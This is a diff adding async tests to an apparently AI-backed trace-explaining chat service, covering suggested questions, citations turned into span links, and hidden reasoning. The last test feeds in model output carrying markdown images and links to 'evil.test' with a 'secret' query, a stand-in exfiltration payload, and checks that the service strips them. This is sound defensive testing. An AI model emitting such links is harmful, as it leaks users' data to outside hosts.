@@ -265,3 +265,48 @@ async def test_reasoning_is_never_shown(service: Service) -> None:
     reader = await service.ask()
     assert reader.texts == ["Open answer."]
     assert "hidden" not in json.dumps(reader.frames)
+
+
+async def test_an_answer_comes_with_three_questions_to_go_on_with(service: Service) -> None:
+    reader = await service.ask()
+    (frame,) = [each for each in reader.frames if each.get("message_type") == "suggestions"]
+    assert len(frame["suggestions"]) == 3
+    assert reader.texts == ["It was the tool."]
+
+
+async def test_a_trace_comes_with_questions_to_begin_with(service: Service) -> None:
+    response = await service.http.get(f"{service.session()}/suggestions")
+    assert response.status_code == 200
+    questions = response.json()["suggestions"]
+    assert len(questions) == 3
+    assert any("error" in each.lower() or "fail" in each.lower() for each in questions)
+    assert service.chat.requests == []
+    assert (await service.http.get(service.session())).status_code == 404
+
+
+async def test_a_citation_reaches_panel_and_history_as_a_link_to_its_span(
+    database_uri: str,
+) -> None:
+    async with running(database_uri, opik_ui_url="https://opik.test") as service:
+        service.chat.scripts = [answer("It was [", "s1", "] and [s99] not [s2].")]
+        reader = await service.ask()
+        assert service.chat.requests[0]["messages"][1]["content"].count("s1 ") > 0
+        (shown,) = reader.texts
+        assert shown.count("](https://opik.test/default/projects/") == 2
+        assert "s99" not in shown
+        assert (await service.said())[-1] == ("assistant", shown)
+        service.chat.scripts = [answer("Yes.")]
+        await service.ask("Sure?")
+        earlier = [each["content"] for each in service.chat.requests[-1]["messages"]]
+        assert any("It was [s1] and" in str(each) for each in earlier)
+
+
+async def test_images_and_foreign_links_of_a_model_never_leave_the_service_alive(
+    service: Service,
+) -> None:
+    hostile = "![x](https://evil.test/?q=secret) <img src=//evil.test> [a](https://evil.test)"
+    service.chat.scripts = [answer(*hostile)]
+    reader = await service.ask()
+    shown = [*reader.texts, (await service.said())[-1][1]]
+    assert all("![" not in each and "<img" not in each for each in shown)
+    assert all("](https://evil" not in each for each in shown)
